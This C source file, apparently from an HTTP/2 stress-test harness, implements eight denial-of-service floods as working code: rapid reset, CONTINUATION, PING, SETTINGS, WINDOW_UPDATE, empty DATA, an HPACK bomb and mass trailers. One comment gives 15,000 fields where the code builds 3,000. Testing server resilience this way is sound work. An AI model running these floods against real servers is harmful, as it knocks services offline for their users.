/* bench/belfry-attack/script_floods.c: frames and heads in great numbers. */
#include <string.h>

#include "hpack.h"
#include "script_parts.h"
#include "scripts.h"

#define A_TURN 500 /* frames that one turn makes */
#define OPEN   100 /* streams that are open while frames come for them */

static const uint8_t range[] = {0, 0, 0, 0, 3, 0x0a, 1, 'k'};

/* Watch streams without a watch, once. */
static void open_some(struct hostile *hostile)
{
    for (; hostile->step < OPEN; hostile->step++)
        script_call(hostile, SCRIPT_WATCH, 0);
}

static void reset_turn(struct hostile *hostile)
{
    static const uint8_t cancel[] = {0, 0, 0, 8};
    for (int i = 0; i < A_TURN; i++) {
        uint32_t id = script_call(hostile, SCRIPT_RANGE, 0);
        hostile_frame(hostile, H2FRAME_DATA, H2FRAME_END_STREAM, id, range, sizeof(range));
        hostile_frame(hostile, H2FRAME_RST_STREAM, 0, id, cancel, sizeof(cancel));
    }
}

static void continuation_turn(struct hostile *hostile)
{
    static const uint8_t field[] = {0, 1, 'a', 1, 'b'};
    if (hostile->step++ == 0)
        hostile_frame(hostile, H2FRAME_HEADERS, 0, 1, field, sizeof(field));
    for (int i = 0; i < A_TURN; i++)
        hostile_frame(hostile, H2FRAME_CONTINUATION, 0, 1, field, i % 2 == 0 ? sizeof(field) : 0);
}

static void ping_turn(struct hostile *hostile)
{
    static const uint8_t payload[8] = "attack";
    for (int i = 0; i < A_TURN; i++)
        hostile_frame(hostile, H2FRAME_PING, 0, 0, payload, sizeof(payload));
}

/* Each changes the windows of all streams. */
static void settings_turn(struct hostile *hostile)
{
    open_some(hostile);
    for (int i = 0; i < A_TURN; i++) {
        const uint8_t setting[] = {0, 4, 0, 0, (uint8_t)(i % 2 == 0 ? 0xff : 0x7f), 0xff};
        hostile_frame(hostile, H2FRAME_SETTINGS, 0, 0, setting, sizeof(setting));
    }
}

static void window_turn(struct hostile *hostile)
{
    static const uint8_t one[] = {0, 0, 0, 1};
    open_some(hostile);
    for (uint32_t i = 0; i < A_TURN; i++)
        hostile_frame(hostile, H2FRAME_WINDOW_UPDATE, 0, i % 2 == 0 ? 0 : i % (2 * OPEN), one, sizeof(one));
}

static void empty_turn(struct hostile *hostile)
{
    open_some(hostile);
    for (uint32_t i = 0; i < A_TURN; i++)
        hostile_frame(hostile, H2FRAME_DATA, 0, 2 * (i % OPEN) + 1, NULL, 0);
}

/* A field of 4,000 bytes, named 16,000 times in one head. */
static void hpack_turn(struct hostile *hostile)
{
    char value[4000];
    struct belfry_buf block = {0};
    memset(value, 'A', sizeof(value));
    if (hostile->step++ == 0) {
        hpack_call(&block, HPACK_FORGET, SCRIPT_RANGE);
        hpack_field(&block, HPACK_KEEP, "x-p", value, sizeof(value));
    } else {
        hpack_call(&block, HPACK_FORGET, SCRIPT_RANGE);
        for (int i = 0; i < 16000; i++)
            hpack_entry(&block, HPACK_NEWEST);
    }
    hostile_open(hostile, &block, H2FRAME_END_HEADERS | H2FRAME_END_STREAM);
    belfry_buf_fini(&block);
}

/* Fields in great numbers after a body, in heads of 15,000 fields. */
static void trailers_turn(struct hostile *hostile)
{
    struct belfry_buf block = {0};
    uint32_t id = script_call(hostile, SCRIPT_RANGE, 0);
    hostile_frame(hostile, H2FRAME_DATA, 0, id, range, sizeof(range));
    for (int i = 0; i < 3000; i++)
        hpack_field(&block, HPACK_FORGET, "a", "b", 1);
    struct belfry_bytes bytes = belfry_buf_bytes(&block);
    hostile_frame(hostile, H2FRAME_HEADERS, H2FRAME_END_HEADERS | H2FRAME_END_STREAM, id, bytes.data, bytes.len);
    belfry_buf_fini(&block);
}

const struct script script_floods[] = {
    {"rapid-reset", "calls that are reset as soon as they are made", SCRIPT_HTTP2, 4, 4 << 20, .turn = reset_turn},
    {"continuation", "a head that goes on in small frames and does not end", SCRIPT_HTTP2, 4, 4 << 20,
     .turn = continuation_turn},
    {"ping", "PINGs", SCRIPT_HTTP2, 4, 4 << 20, .turn = ping_turn},
    {"settings", "SETTINGS that change the windows of all streams", SCRIPT_HTTP2, 4, 4 << 20, .turn = settings_turn},
    {"window-update", "WINDOW_UPDATEs by one byte", SCRIPT_HTTP2, 4, 4 << 20, .turn = window_turn},
    {"empty-data", "DATA without a byte", SCRIPT_HTTP2, 4, 4 << 20, .turn = empty_turn},
    {"hpack-bomb", "heads of 16 KB that unpack to 64 MB", SCRIPT_HTTP2, 4, 4 << 20, .turn = hpack_turn},
    {"trailers", "calls with 3,000 trailers", SCRIPT_HTTP2, 4, 4 << 20, .turn = trailers_turn},
    {0},
};
